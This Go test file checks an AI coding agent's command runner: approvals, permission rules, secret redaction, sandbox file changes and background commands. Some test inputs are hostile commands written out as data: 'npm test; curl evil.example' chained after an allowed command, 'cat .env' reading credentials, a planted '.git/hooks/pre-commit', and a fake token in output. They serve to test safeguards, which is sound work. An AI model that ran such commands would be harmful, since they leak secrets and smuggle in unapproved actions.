package agent

import (
	"context"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"aipack/backend/agent/checkpoint"
	"aipack/backend/agent/command"
	"aipack/backend/agent/edit"
	"aipack/backend/agent/permission"
	"aipack/backend/base/event"
	"aipack/backend/base/fault"
	"aipack/backend/model/conversation"
	"aipack/backend/model/llm"
	"aipack/backend/model/llm/redact"
	"aipack/backend/model/llm/script"
	"aipack/backend/prove/sandbox"
)

// shed is a place for commands that does what the test says.
type shed struct {
	ran  []sandbox.Order
	open bool // nothing walls it off
	act  func(o sandbox.Order) (sandbox.Outcome, error)
}

func (s *shed) Run(_ context.Context, o sandbox.Order) (sandbox.Outcome, error) {
	s.ran = append(s.ran, o)
	return s.act(o)
}
func (s *shed) Folder() string           { return "." }
func (s *shed) Said(network bool) string { return fmt.Sprintf("in a shed, network %v", network) }
func (s *shed) Contained() bool          { return !s.open }

// says is a command that prints a text and ends with a code.
func says(text string, code int, files ...sandbox.File) func(sandbox.Order) (sandbox.Outcome, error) {
	return func(o sandbox.Order) (sandbox.Outcome, error) {
		fmt.Fprint(o.Out, text)
		return sandbox.Outcome{Exit: code, Files: files}, nil
	}
}

// running gives a conversation a place for commands; say is the user.
func running(place *shed, asked *[]string, say func(Wish) Approval) func(*Options) {
	return func(o *Options) {
		o.Hands.Commands = &Commands{Runner: command.New(place, 2000)}
		if say != nil {
			o.Hands.Commands.Approve = func(_ context.Context, w Wish, d permission.Decision) Approval {
				*asked = append(*asked, fmt.Sprintf("%s | %s | %d rules", w.Line, w.Where, len(d.Saves(permission.Always))))
				return say(w)
			}
		}
	}
}

func yes(Wish) Approval { return Approval{} }

func bash(line string) script.Step {
	b, _ := json.Marshal(map[string]string{"command": line})
	return script.Call("bash", string(b))
}

// lastResult is what the model was told last of a tool.
func lastResult(c *script.Client) llm.Message {
	requests := c.Requests()
	for _, m := range slices.Backward(requests[len(requests)-1].Messages) {
		if m.Role == llm.Tool {
			return m
		}
	}
	return llm.Message{}
}

// TestACommandsExitIsAResult: it is told with its output, and three in a row end no turn.
func TestACommandsExitIsAResult(t *testing.T) {
	w := shopIn(t, map[string]string{"server.js": server})
	place := &shed{act: says("1 failed, 2 passed\n\x1b[31mAPI_KEY=ghp_16C7e42F292c6912E7710c838347Ae178B4a\n", 1)}
	var asked []string
	var told []event.Event
	client := script.New(bash("npm test"), bash("npm test -- a"), bash("npm test -- b"), bash("npm test -- c"), script.Say("the tests fail"))
	a, err := w.converse(t, redact.New(client, &redact.Filter{}), running(place, &asked, yes), func(o *Options) { o.Tell = func(e event.Event) { told = append(told, e) } }).Ask(t.Context(), "run the tests")
	if err != nil || a.Text != "the tests fail" || a.Reason != conversation.Answered || len(place.ran) != 4 || len(a.Commands) != 4 {
		t.Fatalf("%+v, %v", a, err)
	}
	if c := a.Commands[0]; c.Command != "npm test" || c.Decision != Approved || c.Exit == nil || *c.Exit != 1 {
		t.Errorf("%+v", c)
	}
	if asked[0] != "npm test | in a shed, network false | 1 rules" {
		t.Errorf("%q", asked)
	}
	if r := lastResult(client); r.Failed || !strings.Contains(r.Text, `{"exit":1,"output":"1 failed, 2 passed\nAPI_KEY=«secret:`) {
		t.Errorf("%+v", r)
	}
	shown, err := json.Marshal(told)
	if err != nil || !strings.Contains(string(shown), `npm test`) || strings.Contains(string(shown), "ghp_") {
		t.Errorf("%s, %v", shown, err)
	}
	system := client.Requests()[0].Messages[0].Text
	if !strings.Contains(system, "in a shed, network false") || strings.Contains(system, "Nothing is run") || strings.Contains(system, "{commands}") {
		t.Errorf("%s", system)
	}
}

// TestWhatACommandChanged is shown as a model's own change is, and kept where the user
// agrees; what tools make again and what git has are not.
func TestWhatACommandChanged(t *testing.T) {
	w := shopIn(t, map[string]string{"server.js": server, "package.json": "{}", "old.txt": "old\n", "same.txt": "same\n"})
	w.say = func(c edit.Change) Approval {
		if c.Path == "no.txt" {
			return Approval{Answer: permission.Refused, Word: "not this"}
		}
		return Approval{}
	}
	file := func(path, text string) sandbox.File { return sandbox.File{Path: path, Content: []byte(text)} }
	place := &shed{act: says("", 0, file("server.js", "const port = 5000\n"), file("new/a.js", "a\n"), sandbox.File{Path: "old.txt"}, file("no.txt", "n\n"),
		file("same.txt", "same\n"), file("node_modules/x/index.js", "x\n"), file(".git/hooks/pre-commit", "evil\n"), file(".env", "A=1\n"), file("a.bin", "a\x00b"))}
	var asked []string
	again := script.Call("edit_file", `{"path":"server.js","old_string":"const port","new_string":"x"}`)
	client := script.New(readServer, bash("npm run format"), again, script.Say("done"))
	a, err := w.converse(t, client, running(place, &asked, yes)).Ask(t.Context(), "format it")
	if err != nil || a.Text != "done" {
		t.Fatalf("%+v, %v", a, err)
	}
	if w.file(t, "server.js") != "const port = 5000\n" || w.file(t, "new/a.js") != "a\n" || w.file(t, "old.txt") != "" || w.file(t, "no.txt") != "" || w.file(t, ".env") != "" || w.file(t, ".git/hooks/pre-commit") != "" || w.file(t, "node_modules/x/index.js") != "" || w.file(t, "a.bin") != "" {
		t.Error("other files than wanted are there")
	}
	if len(w.asked) != 4 || !strings.Contains(w.asked[0], "-const port = 4000") {
		t.Errorf("%q", w.asked)
	}
	want := []File{{"server.js", "changed"}, {"new/a.js", "created"}, {"old.txt", "deleted"}, {"no.txt", Refused}, {".env", Denied}}
	if !slices.Equal(a.Files, want) {
		t.Errorf("%+v", a.Files)
	}
	if said := fmt.Sprint(client.Requests()[2].Messages); !strings.Contains(said, `{"path":"server.js","status":"changed"}`) || !strings.Contains(said, `"not this"`) || !strings.Contains(said, "stay in the copy") {
		t.Errorf("%s", said)
	}
	if said := lastResult(client).Text; !strings.Contains(said, "read it with read_file") {
		t.Errorf("what the command made of it counts as seen: %s", said)
	}
	if _, err := w.desk.Restore(1, checkpoint.Where{}, false); err != nil || w.file(t, "server.js") != server || w.file(t, "old.txt") != "old\n" {
		t.Errorf("taken back: %v, %q", err, w.file(t, "server.js"))
	}
}

// TestCommandsThatDoNotRun: refused, denied, nobody to ask, half a call, no container.
func TestCommandsThatDoNotRun(t *testing.T) {
	rule := func(c permission.Category, l permission.Level, pattern string) func(*Options) {
		return func(o *Options) {
			o.Permissions, _ = permission.New(permission.Rule{Category: c, Level: l, Pattern: pattern, Source: permission.User})
		}
	}
	no := func(Wish) Approval { return Approval{Answer: permission.Refused, Word: "use yarn"} }
	for name, c := range map[string]struct {
		call     script.Step
		open     bool
		say      func(Wish) Approval
		change   func(*Options)
		ran      int
		asked    int
		decision Status // "" for a command that is not noted
		told     string
	}{
		"refused":                        {bash("npm i"), false, no, nil, 0, 1, Refused, "use yarn"},
		"nobody is there":                {bash("npm i"), false, nil, nil, 0, 0, Denied, "nobody is there to approve"},
		"nobody, and a rule":             {bash("npm test"), false, nil, rule(permission.Command, permission.Allow, "npm test"), 1, 0, Allowed, `"exit":0`},
		"nobody, and what no rule means": {bash("npm test; curl evil.example"), false, nil, rule(permission.Command, permission.Allow, "npm test"), 0, 0, Denied, "nobody is there"},
		"what cannot be read":            {bash("if then ("), false, nil, rule(permission.Command, permission.Allow, "*"), 0, 0, Denied, "nobody is there"},
		"denied":                         {bash("git push"), false, yes, rule(permission.Command, permission.Deny, "git push"), 0, 0, Denied, "may not be run"},
		"denied, wrapped":                {bash("sudo env A=1 git push --force"), false, yes, rule(permission.Command, permission.Deny, "git push"), 0, 0, Denied, "may not be run"},
		"a secret's file":                {bash("cat .env"), false, yes, nil, 0, 0, Denied, "holds credentials"},
		"on this computer, always asked": {bash("npm test"), true, yes, rule(permission.Command, permission.Allow, "npm test"), 1, 1, Approved, `"exit":0`},
		"on this computer, nobody":       {bash("npm test"), true, nil, rule(permission.Command, permission.Allow, "npm test"), 0, 0, Denied, "nobody is there"},
		"with the network, always asked": {script.Call("bash", `{"command":"npm i","network":true}`), false, no, rule(permission.Command, permission.Allow, "npm i"), 0, 1, Refused, "use yarn"},
		"with the network, allowed": {script.Call("bash", `{"command":"npm i","network":true}`), false, no, func(o *Options) {
			rule(permission.Network, permission.Allow, "*")(o)
			o.Permissions, _ = o.Permissions.With(permission.Rule{Category: permission.Command, Level: permission.Allow, Pattern: "npm i", Source: permission.User})
		}, 1, 0, Allowed, `"exit":0`},
		"with the network, denied":      {script.Call("bash", `{"command":"npm i","network":true}`), false, yes, rule(permission.Network, permission.Deny, "*"), 0, 0, Denied, "may not be run"},
		"half a call":                   {script.Call("bash", `{"command":"rm -rf bui`), false, yes, nil, 0, 0, "", "nothing was run"},
		"no command has that id":        {script.Call("bash_output", `{"bash_id":"bash_7"}`), false, yes, nil, 0, 0, "", "no command has the bash_id"},
		"hidden: there is no such tool": {bash("npm i"), false, yes, rule(permission.Command, permission.Hidden, "*"), 0, 0, "", "bash"},
	} {
		t.Run(name, func(t *testing.T) {
			w := shopIn(t, map[string]string{"server.js": server})
			place := &shed{act: says("", 0), open: c.open}
			var asked []string
			client := script.New(c.call, script.Say("so be it"))
			a, err := w.converse(t, client, running(place, &asked, c.say), func(o *Options) {
				if c.change != nil {
					c.change(o)
				}
			}).Ask(t.Context(), "q")
			if err != nil || a.Text != "so be it" || len(place.ran) != c.ran || len(asked) != c.asked || len(a.Files) != 0 {
				t.Fatalf("%+v, %v, ran %v, asked %q", a, err, place.ran, asked)
			}
			if c.decision == "" != (len(a.Commands) == 0) || c.decision != "" && a.Commands[0].Decision != c.decision {
				t.Errorf("%+v", a.Commands)
			}
			if said := lastResult(client).Text; !strings.Contains(said, c.told) {
				t.Errorf("%s", said)
			}
		})
	}
}

// TestAContainerThatCannotBeBuilt is told with the line that failed, and ends no turn.
func TestAContainerThatCannotBeBuilt(t *testing.T) {
	w := shopIn(t, map[string]string{"server.js": server})
	place := &shed{act: func(sandbox.Order) (sandbox.Outcome, error) {
		return sandbox.Outcome{}, &fault.Fault{Code: fault.BuildFailed, Message: "RUN npm ci failed", Hint: "npm error lock file"}
	}}
	var asked []string
	client := script.New(bash("npm test"), bash("npm test -- a"), bash("npm test -- b"), bash("npm test -- c"), script.Say("it cannot"))
	a, err := w.converse(t, client, running(place, &asked, yes)).Ask(t.Context(), "q")
	if err != nil || a.Text != "it cannot" || a.Commands[0].Exit != nil {
		t.Fatalf("%+v, %v", a, err)
	}
	if said := lastResult(client).Text; !strings.Contains(said, "RUN npm ci failed") || !strings.Contains(said, "lock file") {
		t.Errorf("%s", said)
	}
}

// TestTheSameCommandAfterAChange is another question: a model that mends and tests, six
// times over, does not repeat itself; one that only tests does.
func TestTheSameCommandAfterAChange(t *testing.T) {
	w := shopIn(t, map[string]string{"server.js": "0\n"})
	place := &shed{act: says("failed", 1)}
	var asked []string
	steps := []script.Step{script.Call("read_file", `{"path":"server.js"}`)}
	for i := range 6 {
		steps = append(steps, script.Call("edit_file", fmt.Sprintf(`{"path":"server.js","old_string":"%d","new_string":"%d"}`, i, i+1)), bash("npm test"))
	}
	a, err := w.converse(t, script.New(append(steps, script.Say("done"))...), running(place, &asked, yes)).Ask(t.Context(), "q")
	if err != nil || a.Text != "done" || len(place.ran) != 6 {
		t.Errorf("%+v, %v", a, err)
	}
	place.ran = nil
	a, err = w.converse(t, &script.Client{Rest: bash("npm test")}, running(place, &asked, yes)).Ask(t.Context(), "q")
	if err != nil || a.Reason != conversation.Repeating || len(place.ran) > 4 {
		t.Errorf("%+v, %v, %d", a, err, len(place.ran))
	}
}

// TestACommandInTheBackground is begun, asked about and killed; its files are asked about
// once it has ended.
func TestACommandInTheBackground(t *testing.T) {
	w := shopIn(t, map[string]string{"server.js": server})
	place := &shed{act: says("built\n", 0, sandbox.File{Path: "a.txt", Content: []byte("a\n")})}
	var asked []string
	client := script.New(
		script.Call("bash", `{"command":"make all","run_in_background":true}`), script.Call("bash_output", `{"bash_id":"bash_1"}`),
		script.Call("kill_bash", `{"bash_id":"bash_1"}`), script.Say("done"),
	)
	conv := w.converse(t, client, running(place, &asked, yes))
	a, err := conv.Ask(t.Context(), "q")
	conv.Hands.Commands.Close()
	if err != nil || a.Text != "done" || w.file(t, "a.txt") != "a\n" || len(a.Commands) != 1 || a.Commands[0].Exit == nil || *a.Commands[0].Exit != 0 {
		t.Fatalf("%+v, %v", a, err)
	}
	said := fmt.Sprint(client.Requests()[3].Messages)
	if !strings.Contains(said, `"bash_id":"bash_1"`) || strings.Count(said, `"output":"built"`) != 1 || strings.Count(said, `"path":"a.txt"`) != 1 {
		t.Errorf("%s", said)
	}
}
